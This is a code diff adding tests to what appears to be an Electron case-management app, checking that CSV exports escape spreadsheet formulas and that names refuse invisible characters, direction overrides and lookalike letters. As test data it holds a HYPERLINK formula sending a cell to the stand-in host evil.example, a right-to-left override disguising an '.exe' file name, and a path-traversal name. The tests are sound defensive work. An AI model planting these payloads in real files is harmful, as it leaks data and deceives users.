@@ -2,6 +2,7 @@ import { spawn } from 'node:child_process';
 import { createHash } from 'node:crypto';
 import { existsSync, mkdirSync, readdirSync, readFileSync, statSync, utimesSync, writeFileSync } from 'node:fs';
 import { join, resolve } from 'node:path';
+import { parse as parseCsv } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
 import { auditHash, type ChainedFields } from '../../electron/core/audit/chain';
 import { newInboxKeys } from '../../electron/core/audit/inbox';
@@ -243,5 +244,67 @@ describe('the key file and the audit trail', () => {
     // Its guards were gone too: put back, and said.
     expect((await t.ok('audit.list', { action: 'audit.guardsRestored' })).total).toBe(1);
     expect(() => t.cb.requireSession().db.$client.prepare('DELETE FROM audit_events').run()).toThrow(/append-only/);
+  });
+});
+
+describe('hostile text', () => {
+  it('no export lets a spreadsheet run what a client’s details say', async () => {
+    const t = startCore();
+    await setUp(t);
+    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '+1+1', '-2+3', '@SUM(1,1)'];
+    for (const [i, lastName] of hostile.entries()) await addNewPerson(t, { firstName: `Name${i}`, lastName, gender: '=1+1', intakeDate: '2026-11-01' });
+    const files = [
+      (await t.ok('clients.exportCsv', { query: '', status: null, caseworkerId: null, riskFlag: null, sort: 'name', descending: false })).path,
+      (await t.ok('reports.saveCsv', { from: '2026-01-01', to: '2026-11-23' })).path,
+      (await t.ok('audit.exportCsv', {})).path,
+    ];
+    for (const file of files) {
+      const cells = (parseCsv(readFileSync(file, 'utf8').replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][]).flat();
+      expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c)), file).toEqual([]);
+    }
+    // The names are there, as text.
+    const clients = readFileSync(files[0]!, 'utf8');
+    for (const name of hostile) expect(clients).toContain(`'${name.replace(/"/g, '""')}`);
+    expect(readFileSync(files[1]!, 'utf8')).toContain("'=1+1");
+  });
+});
+
+describe('names and text that look like something else', () => {
+  it('an administrator’s name cannot be copied with invisible characters, direction marks or lookalike letters', async () => {
+    const t = startCore();
+    await setUp(t);
+    const tries: [string, string][] = [
+      ['Anna Kowalska\u200B', 'invalidCharacters'],
+      ['Anna\u200DKowalska', 'invalidCharacters'],
+      ['Anna Kowalska\u202E', 'invalidCharacters'],
+      ['Anna Kowalska\u0007', 'invalidCharacters'],
+      ['Anna\tKowalska', 'invalidCharacters'],
+      ['\u0410nna Kowalska', 'nameLooksLikeAnother'],
+      ['Anna Kowa1ska', 'nameLooksLikeAnother'],
+      ['anna  kowalska', 'nameTaken'],
+    ];
+    for (const [name, why] of tries) expect((await t.fail('users.create', { name, role: 'admin', password: 'a long password 1' })).fields, JSON.stringify(name)).toEqual({ name: why });
+    // Letters of Polish are letters, not lookalikes: Łucja and Lucja are two people.
+    await t.ok('users.create', { name: 'Lucja Nowak', role: 'caseworker', password: 'a long password 1' });
+    await t.ok('users.create', { name: 'Łucja Nowak', role: 'caseworker', password: 'a long password 1' });
+    // The same letters typed two ways are stored one way (composed).
+    const decomposed = 'Zo\u0301fia Kro\u0301l';
+    const made = await t.ok('users.create', { name: decomposed, role: 'volunteer', password: 'a long password 1' });
+    expect(made.name).toBe('Zófia Król'.normalize('NFC'));
+  });
+
+  it('controls and direction overrides are refused on one line, removed from long text, and kept out of file names', async () => {
+    const t = startCore();
+    await setUp(t);
+    for (const lastName of ['Nowak\u202E', 'No\u0000wak', 'Nowak\u0085', 'Now\u2066ak', 'Nowak\nKowalska'])
+      expect((await t.fail('clients.intake', { details: { firstName: 'Jan', lastName }, duplicatesSeen: [] })).fields, JSON.stringify(lastName)).toEqual({ 'details.lastName': 'invalidCharacters' });
+    expect((await t.fail('charity.update', { name: 'Przystań\u202Egpj.exe', address: null, charityNumber: null, phone: null, email: null })).fields).toMatchObject({ name: 'invalidCharacters' });
+    const client = await addNewPerson(t, { firstName: 'Jan', lastName: 'Nowak', address: '12 High Street\nLeeds\u0007 LS1 4AB' });
+    expect((await t.ok('clients.get', { id: client.id })).client.address).toBe('12 High Street\nLeeds LS1 4AB');
+    const note = await t.ok('notes.save', { clientId: client.id, note: { date: '2026-11-23', time: '10:00', kind: 'phone', body: 'First line\n\tindented\u001B[31m and a bell\u0007.' } });
+    expect(note.body).toBe('First line\n\tindented[31m and a bell.');
+    const { safeFileName } = await import('../../electron/core/storage/files');
+    expect(safeFileName('Casebook Przystań\u202Egpj.exe\u007F 2026')).toBe('Casebook Przystań gpj.exe 2026');
+    expect(safeFileName('..hidden: a/b\\c?.')).toBe('hidden a b c');
   });
 });
